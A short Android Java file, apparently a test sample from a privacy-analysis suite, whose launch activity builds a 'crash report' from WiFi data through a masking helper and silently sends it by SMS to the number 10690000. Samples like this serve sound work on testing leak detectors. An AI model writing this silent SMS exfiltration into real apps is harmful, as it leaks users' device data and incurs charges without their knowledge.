package cn.privlens.suite.report_with_masking;

import android.app.Activity;
import android.net.wifi.WifiManager;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WifiManager wifi = (WifiManager) getApplicationContext().getSystemService(WIFI_SERVICE);
        String text = new CrashReport(Masker.stars()).line("app", getPackageName()).card(wifi).text();
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
